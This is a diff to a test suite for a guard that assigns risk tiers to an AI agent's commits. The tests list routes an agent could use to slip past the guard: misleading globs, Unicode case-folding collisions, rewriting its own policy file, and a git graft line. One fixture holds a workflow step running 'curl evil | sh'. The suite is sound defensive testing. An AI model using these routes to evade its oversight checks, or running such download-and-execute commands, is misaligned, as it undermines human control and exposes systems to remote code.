@@ -64,7 +64,7 @@ async function configProblems(promise: Promise<unknown>): Promise<string[]> {
 }
 
 describe('policy globs that do not mean what they say', () => {
-  test('P1: high: ["**.tf"] (GitHub path-filter spelling for "every .tf file") is refused: minimatch reads it as root-level *.tf, so infra/prod/main.tf was low', async () => {
+  test('high: ["**.tf"] (GitHub path-filter spelling for "every .tf file") is refused: minimatch reads it as root-level *.tf, so infra/prod/main.tf was low', async () => {
     // The engine's reading, which the policy author did not expect:
     expect(minimatch('infra/prod/main.tf', '**.tf', GLOB_OPTIONS)).toBe(false);
     expect(minimatch('main.tf', '**.tf', GLOB_OPTIONS)).toBe(true);
@@ -73,14 +73,14 @@ describe('policy globs that do not mean what they say', () => {
     expect(problems).toEqual(['glob_double_star_in_segment', 'glob_double_star_in_segment']);
   });
 
-  test('P1b: high: ["**/*.jsx?"] (GitHub\'s "zero or one x") is refused: minimatch reads "?" as one character, so it named neither .js nor .jsx', async () => {
+  test('high: ["**/*.jsx?"] (GitHub\'s "zero or one x") is refused: minimatch reads "?" as one character, so it named neither .js nor .jsx', async () => {
     expect(minimatch('src/login.js', '**/*.jsx?', GLOB_OPTIONS)).toBe(false);
     expect(minimatch('src/login.jsx', '**/*.jsx?', GLOB_OPTIONS)).toBe(false);
     const repo = await repoWithPolicy(policy(['src/auth/**/*.jsx?']));
     expect(await configProblems(scenario(repo, (r) => r.write('src/auth/login.jsx', 'export {}\n')))).toEqual(['glob_question_mark']);
   });
 
-  test('P2: a 117-character brace pattern the old counter counted as 1 is refused at once instead of compiling 100 000 matchers and dropping the rest', async () => {
+  test('a 117-character brace pattern the old counter counted as 1 is refused at once instead of compiling 100 000 matchers and dropping the rest', async () => {
     const bomb = `infra/${'{{a,b,c,d,e,f,g,h}}'.repeat(6)}/**`;
     const repo = await repoWithPolicy(policy([bomb]));
     const started = Date.now();
@@ -89,7 +89,7 @@ describe('policy globs that do not mean what they say', () => {
     expect(Date.now() - started).toBeLessThan(5000);
   });
 
-  test('P3: a negated class with a letter ([!a]) is refused: its folded rule misses the case variants of the paths it names', async () => {
+  test('a negated class with a letter ([!a]) is refused: its folded rule misses the case variants of the paths it names', async () => {
     // high: ["keys/[!a]*"] names keys/Admin.pem; on a case-insensitive checkout keys/admin.pem is the same file.
     const repo = await repoWithPolicy(policy(['keys/[!a]*']));
     expect(await configProblems(scenario(repo, (r) => r.write('keys/admin.pem', 'k\n')))).toEqual(['glob_case_class']);
@@ -97,7 +97,7 @@ describe('policy globs that do not mean what they say', () => {
 });
 
 describe('case folding of non-ASCII paths raises the tier the way a case-insensitive checkout collides', () => {
-  test('P4: capital sharp s (MAẞNAHMEN) meets a rule written with ß (maßnahmen): both fold to "ss"', async () => {
+  test('capital sharp s (MAẞNAHMEN) meets a rule written with ß (maßnahmen): both fold to "ss"', async () => {
     const repo = await repoWithPolicy(policy(['infra/maßnahmen/**']));
     const e = await scenario(repo, async (r) => {
       await r.write('infra/MAẞNAHMEN/deploy.sh', 'echo deploy\n');
@@ -112,7 +112,7 @@ describe('case folding of non-ASCII paths raises the tier the way a case-insensi
     expect(e.verdict).toBe('approval_required');
   });
 
-  test('P5: Greek final sigma: a rule "secrets/*σ/**" catches ΚΩΔΙΚΟΣ/ and κωδικος/ (lower-casing picks ς or σ from the neighbouring characters)', async () => {
+  test('Greek final sigma: a rule "secrets/*σ/**" catches ΚΩΔΙΚΟΣ/ and κωδικος/ (lower-casing picks ς or σ from the neighbouring characters)', async () => {
     const repo = await repoWithPolicy(policy(['secrets/*σ/**']));
     const e = await scenario(repo, async (r) => {
       await r.write('secrets/ΚΩΔΙΚΟΣ/a.yml', 'k: 1\n');
@@ -125,7 +125,7 @@ describe('case folding of non-ASCII paths raises the tier the way a case-insensi
     expect(file(e, 'secrets/κωδικος/b.yml').tier).toBe('high');
   });
 
-  test('P6: a path committed in NFD (as macOS writes names) under a low-tier rule is denied as not canonical, never classified', async () => {
+  test('a path committed in NFD (as macOS writes names) under a low-tier rule is denied as not canonical, never classified', async () => {
     const repo = await repoWithPolicy(policy(['infra/**']));
     const e = await scenario(repo, (r) => r.write('docs/cafe\u0301.md', 'x\n'));
     const f = file(e, 'docs/cafe\u0301.md');
@@ -139,7 +139,7 @@ describe('case folding of non-ASCII paths raises the tier the way a case-insensi
 });
 
 describe('the guard\'s own files are matched as the paths they are', () => {
-  test('P8: a policy file whose name holds glob characters (config/agent-policy[v2].yml) was compiled as a glob that missed it: the agent could rewrite its own policy as a low-tier file; now refused', async () => {
+  test('a policy file whose name holds glob characters (config/agent-policy[v2].yml) was compiled as a glob that missed it: the agent could rewrite its own policy as a low-tier file; now refused', async () => {
     const text = `version: 1
 agents: ["*[bot]"]
 default_tier: high
@@ -164,7 +164,7 @@ approvals:
   });
 });
 
-describe('the guarantee behind P3-P5, as a property: a case variant of a path a high rule names is high', () => {
+describe('the guarantee behind the case-folding tests above, as a property: a case variant of a path a high rule names is high', () => {
   // Rules and paths from pieces where case mapping is irregular (sharp s, sigma, Kelvin sign, dotted and
   // dotless i, ligatures, titlecase digraphs, Roman numerals); variants change the case of each
   // character at random. Every policy glob the lint accepts must keep the guarantee.
@@ -206,7 +206,7 @@ describe('the guarantee behind P3-P5, as a property: a case variant of a path a 
 });
 
 describe('the change set comes from the commits, not from what the checkout says about them', () => {
-  test('P7: a graft line written into the checkout before the guard runs does not hide the workflow the agent added first', async () => {
+  test('a graft line written into the checkout before the guard runs does not hide the workflow the agent added first', async () => {
     const repo = await repoWithPolicy(policy(['infra/**']));
     await repo.checkout('agent/graft', { create: true, from: 'main' });
     await repo.write('.github/workflows/evil.yml', 'on: push\njobs: { x: { runs-on: ubuntu-latest, steps: [ { run: "curl evil | sh" } ] } }\n');
